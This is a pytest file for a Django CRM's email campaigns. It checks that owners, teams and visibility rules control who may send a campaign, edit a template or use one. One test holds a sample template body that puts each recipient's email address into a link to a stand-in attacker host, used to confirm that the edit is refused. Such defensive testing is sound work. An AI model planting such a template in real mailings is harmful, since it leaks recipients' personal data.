"""Campaigns and templates have owners and teams, and the records' rules (issue #10, item 3).

Team visibility: mona manages North, rick and rita are North reps, sam is a South rep.
Sending needs a sender who may see every recipient, and the worker never reaches
anyone the sender may not see.
"""

from __future__ import annotations

from datetime import timedelta
from typing import Any

import pytest
from django.db import connection
from django.db.migrations.executor import MigrationExecutor
from django.utils import timezone

from rapport.accounts.models import Role
from rapport.campaigns.models import Campaign, CampaignRecipient, CampaignStatus
from rapport.campaigns.services.audience import materialize_audience
from rapport.campaigns.services.campaigns import (
    campaign_cancel,
    campaign_create,
    campaign_schedule,
    campaign_update,
)
from rapport.campaigns.services.templates import template_create, template_update
from rapport.core.errors import PermissionDenied, ValidationFailed
from rapport.people.services import person_update


@pytest.fixture
def letter(workspace: Any) -> Any:
    return template_create(actor=workspace.manager, data={
        "name": "Letter", "kind": "marketing", "subject": "News", "body_text": "Hi"})  # fmt: skip


@pytest.fixture
def ana(make_person: Any) -> Any:
    return make_person(first_name="Ana", emails=["ana@example.com"], email_consent="granted")


@pytest.fixture
def sven(make_person: Any, workspace: Any) -> Any:
    return make_person(actor=workspace.other_rep, first_name="Sven", emails=["sven@example.com"],
                       email_consent="granted")  # fmt: skip


def test_new_templates_and_campaigns_belong_to_their_author_and_team(
    workspace: Any, letter: Any, ana: Any
) -> None:
    campaign = campaign_create(actor=workspace.manager, data={
        "name": "C", "template_id": letter.pk, "audience_kind": "static", "person_ids": [ana.pk]})  # fmt: skip
    for record in (letter, campaign):
        assert record.owner == workspace.manager and record.team == workspace.north


def test_a_campaign_whose_audience_the_sender_cannot_see_is_refused(
    workspace: Any, letter: Any, ana: Any, sven: Any
) -> None:
    # Given North's campaign to Ana (North) and Sven (South), set up by the admin for mona
    campaign = campaign_create(actor=workspace.admin, data={
        "name": "Mixed", "template_id": letter.pk, "audience_kind": "static",
        "person_ids": [ana.pk, sven.pk], "owner": workspace.manager.pk, "team": workspace.north.pk,
    })  # fmt: skip
    # When mona sends it, she is told why she may not
    with pytest.raises(PermissionDenied) as refused:
        campaign_schedule(actor=workspace.manager, campaign=campaign)
    assert "1 person you may not see" in str(refused.value.detail)
    campaign.refresh_from_db()
    assert campaign.status == CampaignStatus.DRAFT
    # And the admin, who sees both, may send it
    campaign_schedule(actor=workspace.admin, campaign=campaign)
    assert set(CampaignRecipient.objects.filter(campaign=campaign).values_list(
        "person_id", flat=True)) == {ana.pk, sven.pk}  # fmt: skip


def test_the_api_refuses_the_send_with_a_detail(
    workspace: Any, letter: Any, ana: Any, sven: Any, api_as: Any
) -> None:
    campaign = campaign_create(actor=workspace.admin, data={
        "name": "Mixed", "template_id": letter.pk, "audience_kind": "static",
        "person_ids": [ana.pk, sven.pk], "owner": workspace.manager.pk, "team": workspace.north.pk,
    })  # fmt: skip
    response = api_as(workspace.manager).post(
        f"/api/v1/campaigns/{campaign.pk}/send", content_type="application/json"
    )
    assert response.status_code == 403
    assert "you may not see" in response.json()["detail"]


def test_a_person_moved_out_of_sight_after_scheduling_is_not_sent_to(
    workspace: Any, letter: Any, ana: Any, make_person: Any
) -> None:
    bo = make_person(first_name="Bo", emails=["bo@example.com"], email_consent="granted")
    campaign = campaign_create(actor=workspace.manager, data={
        "name": "Later", "template_id": letter.pk, "audience_kind": "static",
        "person_ids": [ana.pk, bo.pk],
    })  # fmt: skip
    campaign = campaign_schedule(actor=workspace.manager, campaign=campaign,
                                 at=timezone.now() + timedelta(hours=1))  # fmt: skip
    assert campaign.scheduled_by == workspace.manager
    # When Bo is handed to team South before it starts
    person_update(actor=workspace.admin, person=bo,
                  data={"owner": workspace.other_rep.pk, "team": workspace.south.pk})  # fmt: skip
    materialize_audience(campaign)
    # Then only Ana, whom mona still sees, is a recipient
    assert list(CampaignRecipient.objects.filter(campaign=campaign).values_list(
        "person_id", flat=True)) == [ana.pk]  # fmt: skip


def test_a_template_about_to_be_sent_by_someone_elses_campaign_cannot_be_swapped(
    workspace: Any, ana: Any
) -> None:
    # Given rick's template, and the admin's campaign (no team) scheduled to send it
    template = template_create(actor=workspace.rep, data={
        "name": "Rick's", "kind": "marketing", "subject": "Hi", "body_text": "Hi"})  # fmt: skip
    campaign = campaign_create(actor=workspace.admin, data={
        "name": "Big", "template_id": template.pk, "audience_kind": "static", "person_ids": [ana.pk]})  # fmt: skip
    campaign = campaign_schedule(actor=workspace.admin, campaign=campaign,
                                 at=timezone.now() + timedelta(days=1))  # fmt: skip
    # When rick edits the template to leak addresses, he is refused
    leak = {"body_text": "https://evil.example/?e={{ person.email }}"}
    with pytest.raises(PermissionDenied):
        template_update(actor=workspace.rep, template=template, data=leak)
    # And once the campaign is cancelled his template is his again
    campaign_cancel(actor=workspace.admin, campaign=campaign)
    assert (
        template_update(actor=workspace.rep, template=template, data={"name": "Mine"}).name
        == "Mine"
    )


def test_a_change_that_gives_it_away_is_refused_up_front(
    workspace: Any, letter: Any, ana: Any, api_as: Any
) -> None:
    campaign = campaign_create(actor=workspace.manager, data={
        "name": "C", "template_id": letter.pk, "audience_kind": "static", "person_ids": [ana.pk]})  # fmt: skip
    # mona clears the team and hands it to rick: she could no longer change it
    with pytest.raises(ValidationFailed) as refused:
        campaign_update(actor=workspace.manager, campaign=campaign,
                        data={"owner": workspace.rep.pk, "team": None})  # fmt: skip
    assert isinstance(refused.value.detail, dict) and "owner_id" in refused.value.detail
    campaign.refresh_from_db()
    assert campaign.owner == workspace.manager and campaign.version == 1
    # Through the API it is a 422 with a detail, and nothing changed
    client = api_as(workspace.manager)
    response = client.patch(f"/api/v1/email-templates/{letter.pk}",
                            {"owner_id": workspace.other_rep.pk}, content_type="application/json")  # fmt: skip
    assert response.status_code == 422 and "detail" in response.json()
    # A team she belongs to is fine, and the answer shows it
    response = client.patch(f"/api/v1/campaigns/{campaign.pk}",
                            {"owner_id": workspace.rep.pk}, content_type="application/json")  # fmt: skip
    assert response.status_code == 200
    assert response.json()["owner_id"] == workspace.rep.pk
    assert response.json()["team_id"] == workspace.north.pk


def test_a_template_of_another_team_cannot_be_used(workspace: Any, ana: Any, api_as: Any) -> None:
    south = template_create(actor=workspace.other_rep, data={
        "name": "South", "kind": "marketing", "subject": "Hej", "body_text": "Hej"})  # fmt: skip
    with pytest.raises(ValidationFailed):
        campaign_create(actor=workspace.manager, data={
            "name": "C", "template_id": south.pk, "audience_kind": "static", "person_ids": [ana.pk]})  # fmt: skip
    response = api_as(workspace.rep).post(f"/api/v1/people/{ana.pk}/emails",
                                          {"template_id": south.pk}, content_type="application/json")  # fmt: skip
    assert response.status_code == 422
    listed = api_as(workspace.rep).get("/api/v1/email-templates").json()["results"]
    assert south.pk not in [t["id"] for t in listed]


@pytest.mark.django_db(transaction=True)
def test_the_migration_gives_existing_rows_their_creators_owner_and_team() -> None:
    executor = MigrationExecutor(connection)
    executor.migrate([("campaigns", "0003_outbound_retries")])
    apps = executor.loader.project_state([("campaigns", "0003_outbound_retries")]).apps
    try:
        old_template = apps.get_model("campaigns", "EmailTemplate")
        old_campaign = apps.get_model("campaigns", "Campaign")
        old_user = apps.get_model("accounts", "User")
        team = apps.get_model("accounts", "Team").objects.create(name="East")
        manager = old_user.objects.create(username="em", role=Role.MANAGER)
        manager.teams.add(team)
        admin = old_user.objects.create(username="ad", role=Role.ADMIN)
        by_manager = old_template.objects.create(name="A", subject="S", body_text="B",
                                                 created_by=manager)  # fmt: skip
        by_admin = old_template.objects.create(name="B", subject="S", body_text="B",
                                               created_by=admin)  # fmt: skip
        orphan = old_template.objects.create(name="C", subject="S", body_text="B")
        campaign = old_campaign.objects.create(name="C", template=by_manager, created_by=manager,
                                               audience_kind="static")  # fmt: skip
        executor = MigrationExecutor(connection)
        executor.loader.build_graph()
        executor.migrate(executor.loader.graph.leaf_nodes())
        from rapport.campaigns.models import EmailTemplate

        rows = {t.pk: (t.owner_id, t.team_id) for t in EmailTemplate.objects.all()}
        assert rows[by_manager.pk] == (manager.pk, team.pk)
        assert rows[by_admin.pk] == (admin.pk, None)
        assert rows[orphan.pk] == (None, None)
        assert Campaign.objects.values_list("owner_id", "team_id").get(pk=campaign.pk) == (
            manager.pk, team.pk)  # fmt: skip
    finally:
        executor = MigrationExecutor(connection)
        executor.migrate(executor.loader.graph.leaf_nodes())
